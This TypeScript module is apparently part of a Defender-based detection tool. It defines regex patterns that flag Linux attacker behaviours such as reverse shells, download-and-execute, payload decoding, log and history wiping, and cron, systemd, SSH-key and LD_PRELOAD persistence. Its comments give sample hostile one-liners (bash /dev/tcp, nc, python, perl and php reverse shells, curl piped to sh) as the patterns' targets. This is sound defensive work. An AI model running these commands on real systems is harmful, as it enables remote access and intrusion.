/**
 * The Linux attacker behaviours shared by `defender/suspicious-script-content` (script bodies) and
 * `defender/suspicious-command-line` (process command lines): one catalog, so a reverse shell is the
 * same finding whether Defender saw it as a script or as a command line.
 *
 * Every regex here runs in linear time: each variable-length part is a single character class (or
 * `\s`) with a bounded repetition (`{0,256}` at most), there are no nested unbounded quantifiers and
 * no quantified alternations whose branches can match the same text. Each start position therefore
 * costs a constant, and a text costs O(length). Texts are capped ({@link MAX_TEXT}) and every
 * pattern is gated by a literal `hint` (`String#includes`) so most lines never reach a regex.
 */
import type { MdeEvent, Severity } from '@tripline/core';
import { maxSeverity } from '@tripline/core/unstable';

/** Stable ids of the behaviours (used in keys, tests and configuration). */
export type BehaviourId =
  | 'reverse-shell'
  | 'download-exec'
  | 'decode-exec'
  | 'history-clearing'
  | 'log-tampering'
  | 'cron-persistence'
  | 'systemd-persistence'
  | 'ssh-authorized-keys'
  | 'ld-preload';

/** One way of recognising a behaviour. */
interface Pattern {
  /** A literal (or any of several) that must occur in the line before the regexes are tried. */
  readonly hint: string | readonly string[];
  /** The first regex must match the line (its match is what the alert quotes); the others must match too. */
  readonly all: readonly RegExp[];
  /** `text`: the regexes after the first may match anywhere in the script (multi-line constructs). */
  readonly scope?: 'line' | 'text';
  /** Techniques this pattern adds to the behaviour's (`python -c` adds T1059.006, …). */
  readonly mitre?: readonly string[];
}

/** A behaviour: what it is, how bad it is alone, and how to recognise it. */
export interface Behaviour {
  readonly id: BehaviourId;
  /** Name shown in alerts. */
  readonly label: string;
  /** Severity when it is the only behaviour seen. */
  readonly severity: Severity;
  readonly mitre: readonly string[];
  /** Expected of package-manager hooks (dpkg/rpm maintainer scripts install cron jobs and units). */
  readonly expectedInPackageHooks: boolean;
  /** Hides traces (history, logs): raised to high next to an execution or persistence behaviour. */
  readonly antiForensics: boolean;
  readonly patterns: readonly Pattern[];
}

/** At most this much of a script or command line is scanned. */
export const MAX_TEXT = 256 * 1024;
/** Quoted lines are clipped to this many characters. */
export const MAX_QUOTE = 240;
/** Lines quoted per behaviour and text. */
export const MAX_QUOTES_PER_BEHAVIOUR = 5;

// Building blocks (strings, composed once at module load).
/** A shell name after a word boundary: `sh`, `bash`, `dash`, `zsh`, `ksh`, `tcsh`, `ash`. */
const SH = String.raw`\b(?:ba|da|z|k|tc|a)?sh\b`;
/** A shell right after a pipe, optionally with its directory: `| /bin/bash`, `| sudo sh`. */
const PIPE_SH = String.raw`\|\s{0,8}(?:sudo\s{1,8})?(?:\/usr)?(?:\/bin\/)?(?:ba|da|z|k|tc|a)?sh\b`;
/** Output redirection (`>`, `>>`, `>|`), not `2>`, `&>` or the second `>` of `>>`. */
const REDIRECT = String.raw`(?:^|[^>&0-9])>>?\|?\s{0,4}["']?`;
/** Truncating redirection only (`>`, `>|`): appending (`>>`) to a log or history file clears nothing. */
const TRUNCATE = String.raw`(?:^|[^>&0-9])>\|?\s{0,4}["']?`;
/** A path argument that ends the command (`… /etc/cron.d/x` then end of line or `;`, `&`, `|`). */
const LAST_ARG = String.raw`["']?\s{0,4}(?:$|[;&|)])`;
const TMP = String.raw`(?:\/tmp|\/dev\/shm|\/var\/tmp)\/`;
const AUTH_LOGS = String.raw`\/var\/log\/(?:(?:auth\.log|secure|syslog|messages|wtmp|btmp|lastlog|faillog|kern\.log|audit\/audit\.log)(?![\w.-])|journal\/?(?![\w.-]))`;
const CRON = String.raw`\/(?:etc\/crontab\b|etc\/cron\.(?:d|hourly|daily|weekly|monthly)\/|var\/spool\/cron\/)`;
const UNIT = String.raw`(?:\/(?:etc|usr\/lib|lib|run)\/systemd\/(?:system|user)\/|\.config\/systemd\/user\/)[^\s;&|"'<>]{1,128}\.(?:service|timer|socket|path)\b`;
const HIST = String.raw`(?:sh_history|zhistory)\b`;
const AK = String.raw`\.ssh\/authorized_keys2?\b`;

const re = (source: string, flags = ''): RegExp => new RegExp(source, flags);

/** The catalog, in the order alerts list behaviours. */
export const BEHAVIOURS: readonly Behaviour[] = [
  {
    id: 'reverse-shell',
    label: 'reverse or bind shell',
    severity: 'high',
    mitre: ['T1059.004', 'T1095'],
    expectedInPackageHooks: false,
    antiForensics: false,
    patterns: [
      // bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
      { hint: '/dev/', all: [re(String.raw`${SH}\s{1,8}-[a-z]{0,3}i[a-z]{0,3}\b[^\n]{0,64}\/dev\/(?:tcp|udp)\/`)] },
      // … /dev/tcp/host/port … 0>&1 | 0<&196 | <&3  (stdin read from the socket; a port probe never does this)
      {
        hint: '/dev/',
        all: [
          re(String.raw`\/dev\/(?:tcp|udp)\/[^\s/]{1,255}\/\d{1,5}[^\n]{0,32}(?:\b0>&\s{0,2}1\b|\b0<&|\s<&\s{0,2}\d)`),
        ],
      },
      // exec 5<>/dev/tcp/host/port … then a shell or a read loop fed from that descriptor
      {
        hint: '/dev/',
        all: [
          re(String.raw`\bexec\s{1,8}\d{1,4}<>\s{0,4}\/dev\/(?:tcp|udp)\/`),
          re(String.raw`${SH}[^\n]{0,32}<&\s{0,2}\d|\b0<&\s{0,2}\d|\bwhile\s{1,4}read\b[^\n]{0,32}<&\s{0,2}\d`),
        ],
        scope: 'text',
      },
      // nc -e /bin/sh host port · ncat --sh-exec 'bash -i' · nc.traditional -c bash
      {
        hint: 'nc',
        all: [
          re(
            String.raw`\b(?:nc|ncat|netcat)(?:\.traditional|\.openbsd)?\b[^\n|;&]{0,128}\s(?:-[a-zA-Z]{0,4}[ec]|--(?:sh-)?exec)[\s=]{0,4}["']?(?:\/usr)?(?:\/bin\/)?(?:ba|da|z|k|tc|a)?sh\b`,
          ),
        ],
      },
      // mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f
      { hint: 'mk', all: [re(String.raw`\bmk(?:fifo|nod)\b[^\n]{0,256}\|\s{0,8}(?:nc|ncat|netcat|telnet|openssl)\b`)] },
      { hint: '|', all: [re(String.raw`${SH}\s{1,8}-i\b[^\n|]{0,64}\|\s{0,8}(?:nc|ncat|netcat|telnet|openssl)\b`)] },
      // telnet h 1 | /bin/bash | telnet h 2
      { hint: 'telnet', all: [re(String.raw`\btelnet\s[^\n|]{0,128}${PIPE_SH}[^\n|]{0,32}\|\s{0,8}telnet\b`)] },
      // socat exec:'bash -li',pty,stderr tcp:host:port (or tcp-listen: — a bind shell)
      {
        hint: 'socat',
        all: [
          re(String.raw`\bsocat\b[^\n]{0,256}\b(?:exec|system):["']?(?:\/usr)?(?:\/bin\/)?(?:ba|da|z|k|a)?sh\b`, 'i'),
          re(String.raw`\b(?:tcp[46]?(?:-connect|-listen)?|openssl(?:-connect|-listen)?|udp[46]?(?:-connect)?):`, 'i'),
        ],
      },
      // python -c 'import socket,os,pty;s=socket.socket();s.connect((h,p));os.dup2(s.fileno(),0);pty.spawn("sh")'
      {
        hint: 'connect',
        all: [
          re(String.raw`\.connect\s{0,4}\(\s{0,4}\(`),
          re(String.raw`\bsocket\b`),
          re(String.raw`\b(?:os\.dup2|pty\.spawn)\s{0,4}\(`),
        ],
        mitre: ['T1059.006'],
      },
      // perl -e 'use Socket;…;connect(S,…);open(STDIN,">&S");exec("/bin/sh -i")'
      {
        hint: 'perl',
        all: [
          re(String.raw`\bperl\b[^\n]{0,64}\s-[a-zA-Z]{0,3}e\b`),
          re(String.raw`\bsocket\s{0,4}\(`, 'i'),
          re(String.raw`\bexec\b|\bopen\s{0,4}\(\s{0,4}STDIN\b`),
        ],
        mitre: ['T1059'],
      },
      // php -r '$s=fsockopen("h",4444);exec("/bin/sh -i <&3 >&3 2>&3");'
      {
        hint: 'fsockopen',
        all: [
          re(String.raw`\bphp\b[^\n]{0,64}\s-r\b`),
          re(String.raw`\bfsockopen\s{0,4}\(`),
          re(String.raw`\b(?:exec|shell_exec|system|passthru|popen|proc_open)\s{0,4}\(`),
        ],
        mitre: ['T1059'],
      },
      // ruby -rsocket -e 'c=TCPSocket.new(h,p);…'
      {
        hint: 'TCPSocket',
        all: [re(String.raw`\bruby\b[^\n]{0,64}-rsocket\b`), re(String.raw`\bTCPSocket\.(?:new|open)\b`)],
        mitre: ['T1059'],
      },
    ],
  },
  {
    id: 'download-exec',
    label: 'download and execute',
    severity: 'high',
    mitre: ['T1105', 'T1059.004'],
    expectedInPackageHooks: false,
    antiForensics: false,
    patterns: [
      // curl -fsSL http://x/i.sh | sh · wget -qO- x | sudo bash
      { hint: ['curl', 'wget'], all: [re(String.raw`\b(?:curl|wget|fetch)\b[^\n|;&]{0,256}${PIPE_SH}`)] },
      // sh -c "$(curl -fsSL x)" · bash <(curl -s x) · eval "$(wget -qO- x)"
      {
        hint: ['curl', 'wget'],
        all: [re(String.raw`(?:${SH}|\beval\b)[^\n]{0,32}(?:<\(|\$\(|\x60)\s{0,4}(?:curl|wget)\b`)],
      },
      // curl -o /tmp/x http://… ; chmod +x /tmp/x (same line or later in the script)
      {
        hint: ['curl', 'wget'],
        all: [
          re(String.raw`\b(?:curl|wget)\b[^\n;&|]{0,256}\s(?:-o|-O|--output(?:-document)?=?|>)\s{0,4}["']?${TMP}`),
          re(String.raw`\bchmod\s{1,8}(?:[0-7]{3,4}|[ugoa]{0,3}\+[rwx]{0,2}x)\b[^\n;&|]{0,64}${TMP}`),
        ],
        scope: 'text',
      },
      // python -c "import urllib.request as u;exec(u.urlopen('http://x').read())"
      {
        hint: 'exec',
        all: [re(String.raw`\bexec\s{0,4}\(\s{0,4}(?:[\w.]{0,40}\.)?(?:urlopen|get)\s{0,4}\(`)],
        mitre: ['T1059.006'],
      },
      {
        hint: 'python',
        all: [
          re(String.raw`\bpython[23]?(?:\.\d{1,2})?\b[^\n]{0,64}\s-c\b`),
          re(String.raw`\burllib\b|\brequests\.get\s{0,4}\(|\burlopen\s{0,4}\(`),
          re(String.raw`\bexec\s{0,4}\(|\bos\.system\s{0,4}\(|\bsubprocess\.|\bos\.popen\s{0,4}\(`),
        ],
        mitre: ['T1059.006'],
      },
    ],
  },
  {
    id: 'decode-exec',
    label: 'decoded payload executed',
    severity: 'high',
    mitre: ['T1140', 'T1059.004'],
    expectedInPackageHooks: false,
    antiForensics: false,
    patterns: [
      // echo <b64> | base64 -d | bash · xxd -r -p payload.hex | sh
      {
        hint: ['base64', 'xxd'],
        all: [
          re(
            String.raw`\b(?:base64\s{1,8}(?:-[a-zA-Z]{0,3}d[a-zA-Z]{0,3}|--decode)|xxd\s{1,8}(?:-p\s{1,8})?-r(?:\s{1,8}-p)?|openssl\s{1,8}(?:enc\s{1,8})?-?base64\s{1,8}-d)(?![\w-])[^\n|;&]{0,256}\|\s{0,8}(?:sudo\s{1,8})?(?:\/usr)?(?:\/bin\/)?(?:(?:ba|da|z|k|tc|a)?sh|python[23]?|perl)\b`,
          ),
        ],
      },
      // bash -c "$(echo <b64> | base64 -d)" · eval "$(printf … | xxd -r -p)"
      {
        hint: ['base64', 'xxd'],
        all: [
          re(
            String.raw`\$\(\s{0,4}(?:echo|printf)\b[^\n)]{0,1024}\|\s{0,4}(?:base64\s{1,8}(?:-[a-zA-Z]{0,3}d|--decode)|xxd\s{1,8}(?:-p\s{1,8})?-r)`,
          ),
          re(String.raw`\beval\b|${SH}\s{1,8}-c\b`),
        ],
      },
      // python -c "import base64;exec(base64.b64decode('…'))"
      {
        hint: 'b64decode',
        all: [re(String.raw`\b(?:exec|eval)\s{0,4}\([^\n]{0,64}b64decode\s{0,4}\(`)],
        mitre: ['T1059.006'],
      },
    ],
  },
  {
    id: 'history-clearing',
    label: 'shell history cleared or disabled',
    severity: 'medium',
    mitre: ['T1070.003'],
    expectedInPackageHooks: false,
    antiForensics: true,
    patterns: [
      { hint: 'history', all: [re(String.raw`\bhistory\s{1,8}-[a-z]{0,2}c\b`)] },
      { hint: 'HISTFILE', all: [re(String.raw`\bunset\s[^\n;&|]{0,64}\bHISTFILE\b`)] },
      { hint: 'HISTFILE=', all: [re(String.raw`\bHISTFILE=(?:["']?\/dev\/null|""|''|\s|;|$)`)] },
      { hint: 'SIZE=', all: [re(String.raw`\bHIST(?:FILE)?SIZE=["']?0\b`)] },
      {
        hint: 'history',
        all: [re(String.raw`\bset\s{1,8}\+o\s{1,8}history\b|\bshopt\s{1,8}-[ou]{2}\s{1,8}history\b`)],
      },
      {
        hint: 'history',
        all: [re(String.raw`\b(?:rm|shred|unlink|srm|wipe|truncate)\b[^\n;&|]{0,256}(?:${HIST}|\.history\b)`)],
      },
      { hint: 'history', all: [re(String.raw`${TRUNCATE}[^\s;&|<>"']{0,256}${HIST}`)] },
      {
        hint: 'history',
        all: [re(String.raw`\b(?:ln\s{1,8}-[a-zA-Z]{1,4}|cp)\s{1,8}\/dev\/(?:null|zero)\s{1,8}[^\s;&|]{0,256}${HIST}`)],
      },
      { hint: 'history', all: [re(String.raw`\bchattr\s{1,8}\+[a-z]{0,3}i[^\n;&|]{0,256}${HIST}`)] },
    ],
  },
  {
    id: 'log-tampering',
    label: 'system logs cleared or edited',
    severity: 'medium',
    mitre: ['T1070.002'],
    expectedInPackageHooks: false,
    antiForensics: true,
    patterns: [
      {
        hint: '/var/log/',
        all: [re(String.raw`\b(?:rm|shred|unlink|srm|wipe|truncate)\b[^\n;&|]{0,256}${AUTH_LOGS}`)],
      },
      { hint: '/var/log/', all: [re(`${TRUNCATE}${AUTH_LOGS}`)] },
      {
        hint: '/var/log/',
        all: [re(String.raw`\b(?:ln\s{1,8}-[a-zA-Z]{1,4}|cp)\s{1,8}\/dev\/(?:null|zero)\s{1,8}${AUTH_LOGS}`)],
      },
      { hint: '/var/log/', all: [re(String.raw`\bsed\s{1,8}-[a-zA-Z]{0,4}i[^\n;&|]{0,256}${AUTH_LOGS}`)] },
      {
        hint: 'vacuum',
        all: [
          re(String.raw`\bjournalctl\b[^\n;&|]{0,64}--vacuum-(?:time=["']?[1-9]s|size=["']?[1-9][KM]?|files=["']?1)\b`),
        ],
      },
    ],
  },
  {
    id: 'cron-persistence',
    label: 'cron job written',
    severity: 'medium',
    mitre: ['T1053.003'],
    expectedInPackageHooks: true,
    antiForensics: false,
    patterns: [
      { hint: 'cron', all: [re(`${REDIRECT}${CRON}`)] },
      {
        hint: 'crontab',
        all: [re(String.raw`\|\s{0,8}(?:sudo\s{1,8})?crontab\s{1,8}(?:-u\s{1,8}\S{1,32}\s{1,8})?-(?![\w-])`)],
      },
      { hint: 'tee', all: [re(String.raw`\btee\s{1,8}(?:-a\s{1,8})?["']?${CRON}`)] },
      {
        hint: 'cron',
        all: [re(String.raw`\b(?:cp|mv|install)\s[^\n;&|]{0,256}\s["']?${CRON}[^\s;&|"']{0,128}${LAST_ARG}`)],
      },
      // crontab /tmp/x installs a whole crontab from a file
      {
        hint: 'crontab',
        all: [
          re(String.raw`(?:^|[\s;&|(])crontab\s{1,8}(?:-u\s{1,8}\S{1,32}\s{1,8})?[\/~.$][^\s;&|]{0,255}${LAST_ARG}`),
        ],
      },
    ],
  },
  {
    id: 'systemd-persistence',
    label: 'systemd unit written',
    severity: 'medium',
    mitre: ['T1543.002'],
    expectedInPackageHooks: true,
    antiForensics: false,
    patterns: [
      { hint: 'systemd/', all: [re(`${REDIRECT}${UNIT}`)] },
      { hint: 'systemd/', all: [re(String.raw`\btee\s{1,8}(?:-a\s{1,8})?["']?${UNIT}`)] },
      {
        hint: 'systemd/',
        all: [re(String.raw`\b(?:cp|mv|install|ln\s{1,8}-[a-zA-Z]{1,4})\s[^\n;&|]{0,256}\s["']?${UNIT}${LAST_ARG}`)],
      },
    ],
  },
  {
    id: 'ssh-authorized-keys',
    label: 'SSH authorized_keys modified',
    severity: 'medium',
    mitre: ['T1098.004'],
    expectedInPackageHooks: false,
    antiForensics: false,
    patterns: [
      { hint: 'authorized_keys', all: [re(String.raw`${REDIRECT}[^\s;&|<>"']{0,256}${AK}`)] },
      { hint: 'authorized_keys', all: [re(String.raw`\btee\s{1,8}(?:-a\s{1,8})?["']?[^\s;&|<>"']{0,256}${AK}`)] },
      { hint: 'authorized_keys', all: [re(String.raw`\b(?:cp|mv|install)\s[^\n;&|]{0,256}${AK}${LAST_ARG}`)] },
    ],
  },
  {
    id: 'ld-preload',
    label: 'dynamic linker preload hijack',
    severity: 'high',
    mitre: ['T1574.006'],
    expectedInPackageHooks: false,
    antiForensics: false,
    patterns: [
      { hint: 'ld.so.preload', all: [re(String.raw`${REDIRECT}\/etc\/ld\.so\.preload\b`)] },
      { hint: 'ld.so.preload', all: [re(String.raw`\btee\s{1,8}(?:-a\s{1,8})?["']?\/etc\/ld\.so\.preload\b`)] },
      {
        hint: 'ld.so.preload',
        all: [
          re(String.raw`\b(?:cp|mv|install|ln\s{1,8}-[a-zA-Z]{1,4})\s[^\n;&|]{0,256}\/etc\/ld\.so\.preload${LAST_ARG}`),
        ],
      },
      {
        hint: 'ld.so.preload',
        all: [re(String.raw`\bsed\s{1,8}-[a-zA-Z]{0,4}i[^\n;&|]{0,256}\/etc\/ld\.so\.preload\b`)],
      },
      { hint: 'LD_PRELOAD=', all: [re(String.raw`\bLD_PRELOAD=["']?(?:${TMP}|\.\/)`)] },
    ],
  },
];

const BY_ID: ReadonlyMap<BehaviourId, Behaviour> = new Map(BEHAVIOURS.map((b) => [b.id, b]));

/** A behaviour by id. */
export function behaviour(id: BehaviourId): Behaviour {
  return BY_ID.get(id)!;
}

/** Every technique any behaviour can report (the detectors' `meta.mitre`). */
export const ALL_BEHAVIOUR_TECHNIQUES: readonly string[] = [
  ...new Set(BEHAVIOURS.flatMap((b) => [...b.mitre, ...b.patterns.flatMap((p) => p.mitre ?? [])])),
].sort();

/** One behaviour found in one text. */
export interface Finding {
  readonly id: BehaviourId;
  readonly label: string;
  severity: Severity;
  readonly mitre: Set<string>;
  /** The lines that matched, clipped, at most {@link MAX_QUOTES_PER_BEHAVIOUR}. */
  readonly lines: string[];
}

/** Context that changes what counts: package-manager hooks, and whether the actor is root. */
export interface ScanContext {
  readonly packageHook: boolean;
  readonly root: boolean;
}

/** Clip a matched line around the match so the quoted part shows what matched. */
export function quote(line: string, at: number): string {
  const text = line.trim();
  if (text.length <= MAX_QUOTE) return text;
  const offset = line.length - line.trimStart().length;
  const start = Math.max(0, Math.min(at - offset - 40, text.length - MAX_QUOTE));
  return `${start > 0 ? '…' : ''}${text.slice(start, start + MAX_QUOTE - 1)}…`;
}

/**
 * Every hint literal of the catalog, minus those that contain another one (`crontab` contains
 * `cron`): a line that includes none of these can match no pattern, whatever the context.
 */
const ANY_HINT: readonly string[] = (() => {
  const all = [
    ...new Set(BEHAVIOURS.flatMap((b) => b.patterns.flatMap((p) => (typeof p.hint === 'string' ? [p.hint] : p.hint)))),
  ];
  return all.filter((h) => !all.some((g) => g !== h && h.includes(g)));
})();

/** The hints keyed by their first two characters (both ASCII): one pass over a text finds them all. */
const HINTS_BY_PAIR = new Map<number, readonly string[]>();
/** One-character hints (`|`), as a table of ASCII codes. */
const SINGLE_HINT = new Uint8Array(128);
/** Hints that start with a non-ASCII character: looked for one by one (none today). */
const OTHER_HINTS: string[] = [];
for (const h of ANY_HINT) {
  const a = h.charCodeAt(0);
  const b = h.charCodeAt(1);
  if (h.length === 1 && a < 128) SINGLE_HINT[a] = 1;
  else if (h.length >= 2 && a < 128 && b < 128) {
    const key = (a << 7) | b;
    HINTS_BY_PAIR.set(key, [...(HINTS_BY_PAIR.get(key) ?? []), h]);
  } else OTHER_HINTS.push(h);
}
const PAIR_SEEN = new Uint8Array(128 * 128);
for (const key of HINTS_BY_PAIR.keys()) PAIR_SEEN[key] = 1;

/**
 * True when `text` contains at least one pattern hint. False means {@link scan} finds nothing in
 * it (a line without any hint skips every pattern), so callers can skip building a context.
 * One pass over the text, checking the hints that start with each pair of characters — the same
 * answer as testing every hint with `includes` (tested against it), without ~40 scans per text.
 */
export function mayFind(text: string): boolean {
  const n = text.length;
  for (let i = 0; i < n; i++) {
    const a = text.charCodeAt(i);
    if (a >= 128) continue;
    if (SINGLE_HINT[a] === 1) return true;
    if (i + 1 === n) break;
    const b = text.charCodeAt(i + 1);
    if (b >= 128) continue;
    const key = (a << 7) | b;
    if (PAIR_SEEN[key] === 1) for (const h of HINTS_BY_PAIR.get(key)!) if (text.startsWith(h, i)) return true;
  }
  for (const h of OTHER_HINTS) if (text.includes(h)) return true;
  return false;
}

/** Every hint literal {@link mayFind} looks for (for tests). */
export const MAY_FIND_HINTS: readonly string[] = ANY_HINT;

function hinted(line: string, hint: string | readonly string[]): boolean {
  if (typeof hint === 'string') return line.includes(hint);
  for (const h of hint) if (line.includes(h)) return true;
  return false;
}

/** Iterate over the lines of a (capped) text without allocating a split array. */
function* linesOf(text: string): Generator<string> {
  let start = 0;
  while (start <= text.length) {
    const nl = text.indexOf('\n', start);
    const end = nl < 0 ? text.length : nl;
    yield text.charCodeAt(end - 1) === 13 ? text.slice(start, end - 1) : text.slice(start, end);
    if (nl < 0) return;
    start = nl + 1;
  }
}

/** Shell comment lines (not a shebang-less `#!`): documentation, never executed. */
function isComment(line: string): boolean {
  const t = line.trimStart();
  return t.startsWith('#');
}

const AK_ROOT_RE = /\/root\/\.ssh\/authorized_keys|~root\/\.ssh\//;
const AK_HOME_RE = /(?:~|\$HOME|\$\{HOME\})\/\.ssh\/authorized_keys/;

/**
 * Find the behaviours in a script body or a command line. Pure; the result lists behaviours in
 * catalog order with their final severity (anti-forensics raised to high next to an execution or
 * persistence behaviour; root's authorized_keys high).
 */
export function scan(input: string, ctx: ScanContext): Finding[] {
  const text = input.length > MAX_TEXT ? input.slice(0, MAX_TEXT) : input;
  const found = new Map<BehaviourId, Finding>();
  const textHits = new Map<RegExp, boolean>();
  const inText = (r: RegExp): boolean => {
    let hit = textHits.get(r);
    if (hit === undefined) {
      hit = r.test(text);
      textHits.set(r, hit);
    }
    return hit;
  };
  for (const line of linesOf(text)) {
    if (line.length < 4 || !mayFind(line) || isComment(line)) continue;
    for (const b of BEHAVIOURS) {
      for (const p of b.patterns) {
        if (!hinted(line, p.hint)) continue;
        const m = p.all[0]!.exec(line);
        if (!m) continue;
        let ok = true;
        for (let i = 1; i < p.all.length && ok; i++) ok = p.scope === 'text' ? inText(p.all[i]!) : p.all[i]!.test(line);
        if (!ok) continue;
        // Read only once something matched: the context may be computed lazily (a getter). A
        // behaviour expected of package hooks is skipped there, as if none of its patterns had run.
        if (b.expectedInPackageHooks && ctx.packageHook) break;
        let f = found.get(b.id);
        if (!f) {
          f = { id: b.id, label: b.label, severity: b.severity, mitre: new Set(b.mitre), lines: [] };
          found.set(b.id, f);
        }
        for (const t of p.mitre ?? []) f.mitre.add(t);
        const q = quote(line, m.index);
        if (f.lines.length < MAX_QUOTES_PER_BEHAVIOUR && !f.lines.includes(q)) f.lines.push(q);
        if (b.id === 'ssh-authorized-keys' && (AK_ROOT_RE.test(line) || (ctx.root && AK_HOME_RE.test(line))))
          f.severity = 'high';
        break; // one pattern per behaviour and line is enough
      }
    }
  }
  const list = BEHAVIOURS.map((b) => found.get(b.id)).filter((f): f is Finding => f !== undefined);
  const attack = list.some((f) => !behaviour(f.id).antiForensics);
  if (attack) for (const f of list) if (behaviour(f.id).antiForensics) f.severity = 'high';
  return list;
}

/** Process names of package managers and their helpers (comm names are cut at 15 characters). */
const PACKAGE_MANAGERS: ReadonlySet<string> = new Set([
  'dpkg',
  'apt',
  'apt-get',
  'aptitude',
  'unattended-upgr',
  'unattended-upgrade',
  'unattended-upgrades',
  'rpm',
  'dnf',
  'yum',
  'zypper',
  'packagekitd',
]);
const HOOK_DIRS = ['/var/lib/dpkg/info/', '/var/lib/dpkg/tmp.ci/', '/var/tmp/rpm-tmp.', '/var/lib/rpm-state/'];
const HOOK_SUFFIX_RE = /\.(?:preinst|postinst|prerm|postrm|config)$/;

/**
 * True when the event runs inside a package-manager hook: a dpkg/rpm maintainer script (by path)
 * or a process whose parent is the package manager. Only the behaviours packages legitimately do
 * (installing cron jobs and systemd units) are ignored there; execution behaviours never are.
 */
export function inPackageHook(event: MdeEvent): boolean {
  const parent = event.str('InitiatingProcessParentFileName');
  if (parent !== undefined && (PACKAGE_MANAGERS.has(parent) || HOOK_SUFFIX_RE.test(parent))) return true;
  const name = event.str('InitiatingProcessFileName');
  if (name !== undefined && (PACKAGE_MANAGERS.has(name) || HOOK_SUFFIX_RE.test(name))) return true;
  const cmd = event.str('InitiatingProcessCommandLine') ?? '';
  const folder = event.str('FolderPath') ?? '';
  for (const d of HOOK_DIRS) if (cmd.includes(d) || folder.startsWith(d)) return true;
  return false;
}

/** True when the acting process runs as root (effective uid 0, or account `root`). */
export function actsAsRoot(event: MdeEvent, side: 'initiating' | 'process' = 'initiating'): boolean {
  const p = side === 'initiating' ? event.posix.initiatingProcess : event.posix.process;
  if (p.effectiveUser?.uid !== undefined) return p.effectiveUser.uid === 0;
  const name = side === 'initiating' ? event.str('InitiatingProcessAccountName') : event.str('AccountName');
  return name === 'root';
}

/** Highest of a list of severities (`medium` when empty). */
export function highest(severities: readonly Severity[]): Severity {
  let best: Severity | undefined;
  for (const s of severities) best = best === undefined ? s : maxSeverity(best, s);
  return best ?? 'medium';
}
